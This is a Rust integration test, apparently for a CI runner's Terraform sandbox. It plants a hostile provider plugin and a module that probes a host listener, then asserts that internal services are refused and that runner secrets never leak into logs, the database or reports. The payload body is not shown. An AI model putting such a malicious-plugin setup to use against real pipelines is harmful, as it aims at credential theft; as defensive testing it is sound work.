    std::fs::create_dir_all(&plugin_dir).expect("mkdir");
    let plugin = plugin_dir.join("terraform-provider-evil_v1.0.0");
    std::fs::write(
        &plugin,
        hostile_provider(&dir.path().join("runner.db"), &caddy_admin, &runner_api, &cache),
    )
    .expect("write");
    std::fs::set_permissions(&plugin, std::os::unix::fs::PermissionsExt::from_mode(0o755)).expect("chmod");
    std::fs::write(
        repo.join("infra/main.tf"),
        "variable \"image_url\" {\n  type = string\n}\n\nterraform {\n  required_providers {\n    evil = {\n      source  = \"example.com/hostile/evil\"\n      version = \"1.0.0\"\n    }\n  }\n}\n\nresource \"evil_thing\" \"x\" {}\n",
    )
    .expect("write");
    git(&repo, &["add", "-A"]);
    git(&repo, &["commit", "--quiet", "-m", "a provider of our own"]);
    let ships_provider = git(&repo, &["rev-parse", "HEAD"]);
    let _cleanup = EngineCleanup {
        container: format!("runner-{project}-production"),
        references: vec![format!("{image}:*")],
    };

    let fake = FakeGitHub::default();
    let api = fake.start().await;
    let mut config = with_github(
        approve_forks(pipeline_config(
            dir.path(),
            &project,
            &repo,
            &image,
            &registry,
            free_port(),
            20,
        )),
        &api,
        false,
    );
    config.server.listen = Some(format!("0.0.0.0:{api_port}"));
    config.server.work_dir = Some(dir.path().join("work"));
    config.dashboard.public_url = None;
    config.queue = config::Queue::default();
    let secrets = |pairs: &[(&str, &str)]| -> BTreeMap<String, String> {
        pairs.iter().map(|(k, v)| ((*k).to_owned(), (*v).to_owned())).collect()
    };
    let project_config = &mut config.projects[0];
    project_config.build.as_mut().expect("build").secrets = secrets(&[("DEPLOY_KEY", "BUILD_SECRET")]);
    project_config.terraform = Some(config::Terraform {
        secret_env: secrets(&[("CLOUD_SECRET", "DEPLOY_CLOUD_SECRET")]),
        secret_vars: secrets(&[("db_password", "DB_PASSWORD")]),
        plan_pull_requests: true,
        ..config::terraform("infra", &dir.path().join("state.tfstate"))
    });
    let config_path = dir.path().join("runner.toml");
    config::write(&config_path, config);
    let mut env: Vec<(&str, &str)> = vec![("TERRAFORM_BIN", &terraform), ("REGISTRY_USER", "deployer")];
    env.extend(RUNNER_SECRETS.iter().copied());
    let mut runner = Runner::start_with_env(&config_path, &env);
    let base = runner.base.clone();
    let client = reqwest::Client::new();
    let (webhook_secret, admin) = (RUNNER_SECRETS[0].1, RUNNER_SECRETS[1].1);

    let mut surfaces: Vec<(String, String)> = Vec::new();
    // The same commits from a fork (approved by an admin) and from a branch of the
    // repository itself (run without approval under the default policy).
    for (head, sha) in [
        (FORK, &reads_proc),
        (FORK, &ships_provider),
        (REPOSITORY, &reads_proc),
        (REPOSITORY, &ships_provider),
    ] {
        let body = pull_request("synchronize", Some(head), sha);
        let job_id = deliver_pull_request(&client, &base, webhook_secret, body).await;
        if head == FORK {
            approve_as_admin(&client, &base, admin, job_id).await;
        }
        let job = ended_job(&client, &base, job_id, 1800).await;
        let log = get_text(&client, format!("{base}/api/jobs/{job_id}/logs")).await;
        assert_eq!(
            job["state"], "failed",
            "the hostile plan fails in the sandbox: {job}\n{log}"
        );
        assert!(
            requests.lock().expect("lock").is_empty(),
            "the listener on a host address was reached: {:?}",
            requests.lock().expect("lock")
        );
        if sha == &reads_proc {
            // The plan did run the module and did try the listener: the checks can fail.
            assert!(log.contains(&listener), "the module tried to send to {listener}: {log}");
        } else {
            // Terraform quotes the provider's line in its error, wrapped over log lines.
            let text: String = log
                .lines()
                .map(|line| line.split_once(' ').map_or(line, |(_, rest)| rest))
                .collect::<Vec<_>>()
                .join(" ");
            let report = text
                .split_once("hostile-report")
                .and_then(|(_, rest)| rest.split_once("environ:"))
                .map(|(report, _)| report)
                .unwrap_or_else(|| panic!("the shipped provider ran and reported: {log}"));
            for target in ["engine", "database", "caddy", "api", "cache"] {
                assert!(
                    report.contains(&format!("{target}=refused")),
                    "the provider reached the {target}: {report}\n{log}"
                );
            }
        }
        assert!(log.contains("terraform runs in a sandbox (untrusted"), "{log}");
        surfaces.push((format!("job {job_id}"), job.to_string()));
        surfaces.push((format!("log of job {job_id}"), log));
    }
    assert!(
        requests.lock().expect("lock").is_empty(),
        "the listener on a host address was reached: {:?}",
        requests.lock().expect("lock")
    );
    assert!(
        !cache.join("planted").exists(),
        "the provider wrote into the provider cache"
    );
    let reports: Vec<String> = fake.requests().iter().map(|r| r.body.to_string()).collect();
    surfaces.push(("GitHub reports".into(), reports.join("\n")));
    runner.terminate();
    surfaces.push(("runner log".into(), runner.log_text()));
    surfaces.push(("database".into(), crate::common::database::stored_text(dir.path())));
    for (name, value) in RUNNER_SECRETS {
        for form in smuggled_forms(value) {
            for (surface, text) in &surfaces {
                assert!(!text.contains(&form), "{name} ({form}) is in the {surface}");
            }
        }
    }
}
